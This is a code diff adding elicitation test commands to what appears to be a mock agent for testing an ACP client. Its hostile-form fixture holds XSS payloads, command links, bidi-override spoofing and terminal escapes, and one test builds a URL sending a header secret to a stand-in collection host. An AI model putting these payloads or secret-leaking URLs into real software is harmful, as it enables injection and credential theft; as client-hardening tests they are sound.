@@ -50,6 +50,16 @@ A prompt's first text block picks what the turn does (the first word, then argum
     roots              says the session's cwd and additionalDirectories (session/new)
     forgotten          says the sessions closed and deleted through session/close and session/delete
     think_hard         sends config_option_update: thought_level becomes "high" (the agent changed it)
+    elicit_form        elicitation/create, form mode (a choice, an integer, a yes/no, an optional text and email),
+                       says what came back ("elicit: {…}"); refuses to ask ("no form elicitation advertised")
+                       unless initialize's clientCapabilities.elicitation.form was present and non-null
+    elicit_url [URL]   the same in URL mode (elicitationId "url-1"; default https://login.example.com/connect?e=url-1)
+    elicit_hostile     a form whose labels, descriptions and choices carry command links, HTML, bidi overrides,
+                       escapes and 5,000 characters (the client must show them as bounded text)
+    elicit_request     a form scoped to the prompt's request (requestId) instead of the session
+    elicit_secret      a URL question whose address carries the MCP header value it was given (the client must
+                       refuse it as invalid params, never open it)
+    elicit_mode        a question in a mode no client advertises ("voice"): the client must answer -32602
 A later text block that starts "[Note from the editor]" is said first, as "editor note: …".
 """
 import json
@@ -186,6 +196,25 @@ def turn(request_id, params):
         update(session_id, {'sessionUpdate': 'session_info_update', 'title': title})
         chunk(session_id, 'titled')
         return answer(request_id, {'stopReason': 'end_turn'})
+    if command == 'elicit_form':
+        return elicit(request_id, session_id, {'sessionId': session_id, 'mode': 'form', 'requestedSchema': ELICIT_FORM,
+                                               'message': 'How should I approach this refactoring?'})
+    if command == 'elicit_hostile':
+        return elicit(request_id, session_id, {'sessionId': session_id, 'mode': 'form', 'requestedSchema': ELICIT_HOSTILE,
+                                               'message': 'Choose [now](command:workbench.action.reload) \u202eplease'})
+    if command == 'elicit_request':
+        return elicit(request_id, session_id, {'requestId': request_id, 'mode': 'form', 'requestedSchema': ELICIT_FORM,
+                                               'message': 'Asked for the prompt request'})
+    if command in ('elicit_url', 'elicit_secret'):
+        url = words[1] if len(words) > 1 else 'https://login.example.com/connect?e=url-1'
+        if command == 'elicit_secret':
+            values = [header['value'] for server in STATE['servers'].get(session_id, [])
+                      for header in server.get('headers', [])]
+            url = 'https://collect.example.com/?t=' + (values[0].split(' ')[-1] if values else 'none')
+        return elicit(request_id, session_id, {'sessionId': session_id, 'mode': 'url', 'elicitationId': 'url-1',
+                                               'url': url, 'message': 'Please sign in to continue.'})
+    if command == 'elicit_mode':
+        return elicit(request_id, session_id, {'sessionId': session_id, 'mode': 'voice', 'message': 'Say it'})
     if command == 'hello':
         chunk(session_id, 'Hello')
         update(session_id, {'sessionUpdate': 'agent_thought_chunk', 'content': {'type': 'text', 'text': 'thinking'}})
@@ -312,6 +341,39 @@ def turn(request_id, params):
     return answer(request_id, {'stopReason': 'end_turn'})
 
 
+ELICIT_FORM = {
+    'type': 'object', 'title': 'Refactoring plan',
+    'properties': {
+        'strategy': {'type': 'string', 'title': 'Strategy', 'description': 'How careful to be',
+                     'oneOf': [{'const': 'conservative', 'title': 'Conservative'},
+                               {'const': 'balanced', 'title': 'Balanced'}, {'const': 'aggressive', 'title': 'Aggressive'}]},
+        'count': {'type': 'integer', 'title': 'Files at most', 'minimum': 1, 'maximum': 10, 'default': 3},
+        'dry_run': {'type': 'boolean', 'title': 'Dry run first', 'default': True},
+        'note': {'type': 'string', 'title': 'Note', 'maxLength': 50},
+        'email': {'type': 'string', 'title': 'Email for the report', 'format': 'email'}},
+    'required': ['strategy', 'count']}
+
+HOSTILE_LABEL = 'Pick [here](command:workbench.action.reload) <img src=x onerror=alert(1)> \u202egnp.exe\u202c \x1b[2J'
+ELICIT_HOSTILE = {
+    'type': 'object',
+    'properties': {
+        'answer': {'type': 'string', 'title': HOSTILE_LABEL + ' ' + 'y' * 5000,
+                   'description': '<b>bold</b>\n[link](https://evil.example) \u200bzero-width',
+                   'enum': ['[ok](command:workbench.action.quit)', '<script>alert(1)</script>']}},
+    'required': ['answer']}
+
+
+def elicit(request_id, session_id, params):
+    """Ask the client a question (elicitation/create) and say what came back."""
+    form_capable = ((STATE.get('client') or {}).get('elicitation') or {}).get('form') is not None
+    if params.get('mode') == 'form' and not form_capable:
+        chunk(session_id, 'no form elicitation advertised')
+        return answer(request_id, {'stopReason': 'end_turn'})
+    reply = ask_client('elicitation/create', params)
+    chunk(session_id, 'elicit: ' + json.dumps(reply.get('result', {'error': reply.get('error')}), sort_keys=True))
+    return answer(request_id, {'stopReason': 'end_turn'})
+
+
 def handle(message):
     method = message.get('method')
     request_id = message.get('id')
@@ -322,6 +384,7 @@ def handle(message):
         if MODE == 'hang_init':
             return
         version = 2 if MODE == 'wrong_version' else 1
+        STATE['client'] = params.get('clientCapabilities') or {}
         return answer(request_id, {
             'protocolVersion': version,
             'agentCapabilities': {'loadSession': True, 'promptCapabilities': {'image': False},
